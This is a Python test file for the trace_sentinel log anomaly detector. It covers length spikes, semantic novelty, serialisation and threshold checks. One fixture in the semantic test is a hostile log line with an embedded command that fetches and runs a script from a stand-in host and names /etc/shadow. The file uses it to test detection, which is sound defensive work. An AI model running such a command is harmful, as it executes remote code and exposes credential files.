import io
import random

from trace_sentinel import (
    Event,
    JSONLSink,
    MADDetector,
    Sentinel,
    Severity,
)


def test_warmup_suppresses_early_alerts():
    s = Sentinel(threshold=2.0, warmup=50)
    fired = []
    for _ in range(10):
        fired += s.observe(Event(message="hello", source="x"))
    assert fired == []


def test_sentinel_surfaces_length_spike():
    s = Sentinel(threshold=3.0, warmup=30)
    rng = random.Random(0)
    for _ in range(200):
        s.observe(Event(message="x" * rng.randint(40, 60), source="app"))
    out = s.observe(Event(message="y" * 5000, source="app"))
    metrics = {a.metric for a in out}
    assert "message.length" in metrics
    spike = next(a for a in out if a.metric == "message.length")
    assert spike.severity == Severity.CRITICAL
    assert spike.score > 0


def test_metrics_tracked_lazily():
    s = Sentinel(warmup=5)
    s.observe(Event(message="hello world", source="app"))
    assert "message.length" in s.metrics
    assert "message.tokens" in s.metrics


def test_semantic_layer_end_to_end():
    s = Sentinel(threshold=3.0, warmup=30, enable_semantic=True)
    rng = random.Random(0)
    accounts = ["svc-web", "svc-api", "svc-db", "admin", "guest", "batch"]
    for _ in range(300):
        s.observe(Event(message=f"login ok for {rng.choice(accounts)}", source="auth"))
    out = s.observe(Event(message="$(curl evil.sh|sh) 0xBADC0DE /etc/shadow", source="auth"))
    assert any(a.metric == "message.semantic_novelty" for a in out)


def test_custom_detector_factory():
    s = Sentinel(threshold=3.0, warmup=20, detector_factory=lambda: MADDetector(warmup=20))
    rng = random.Random(2)
    for _ in range(100):
        s.observe(Event(message="z" * rng.randint(10, 14), source="app"))
    out = s.observe(Event(message="z" * 9000, source="app"))
    assert any(a.metric == "message.length" for a in out)


def test_anomaly_as_dict_is_json_ready():
    s = Sentinel(threshold=3.0, warmup=20)
    rng = random.Random(0)
    out = []
    for _ in range(100):
        out += s.observe(Event(message="m" * rng.randint(10, 20), source="svc"))
    out += s.observe(Event(message="m" * 4000, source="svc"))
    anomaly = next(a for a in out if a.metric == "message.length")
    d = anomaly.as_dict()
    assert set(d) >= {"timestamp", "source", "metric", "score", "severity", "explanation"}
    # JSONLSink should serialize without error.
    buf = io.StringIO()
    JSONLSink(stream=buf).emit(anomaly)
    assert anomaly.severity.value in buf.getvalue()


def test_introspection_tracks_scores_and_counts():
    s = Sentinel(threshold=3.0, warmup=20, enable_semantic=True)
    rng = random.Random(0)
    for _ in range(60):
        s.observe(Event(message="hello world here", source="x" * rng.randint(1, 3)))
    assert s.events_observed == 60
    scores = s.last_scores
    assert "message.length" in scores
    assert all(isinstance(v, float) for v in scores.values())
    states = s.metric_states()
    assert "message.length" in states
    assert set(states["message.length"]) == {"sigma", "ready"}
    assert states["message.length"]["ready"] is True
    assert "message.semantic_novelty" in states  # semantic enabled


def test_invalid_threshold_rejected():
    for bad in (0.0, -1.0):
        try:
            Sentinel(threshold=bad)
        except ValueError:
            continue
        raise AssertionError(f"threshold={bad} should have raised")
